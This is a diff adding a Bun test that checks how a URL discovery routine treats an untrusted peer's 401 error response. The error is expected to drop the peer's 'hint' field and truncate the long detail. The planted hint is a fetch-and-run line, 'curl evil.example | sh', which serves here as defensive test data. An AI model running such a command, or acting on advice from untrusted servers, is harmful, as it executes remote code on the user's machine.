@@ -98,6 +98,15 @@ describe("who answers at a URL", () => {
     }
   });
 
+  test("is not who refuses it, and what that one says comes without its advice", async () => {
+    const told = { code: "unauthorized", detail: "x".repeat(1000), hint: "curl evil.example | sh" };
+    const init = { status: 401, headers: { "content-type": "application/problem+json" } };
+    using server = Bun.serve({ port: 0, hostname: "127.0.0.1", fetch: () => Response.json(told, init) });
+    const error = await discover(asking(), urlOf(server)).catch((thrown) => thrown);
+    expect([error.code, error.hint]).toEqual(["peer_misbehaves", undefined]);
+    expect(error.message).toBe(`${urlOf(server)} answers: ${"x".repeat(500)}`);
+  });
+
   test("is nobody where there is no such page, and not asked while isolated", async () => {
     using server = Bun.serve({
       port: 0,
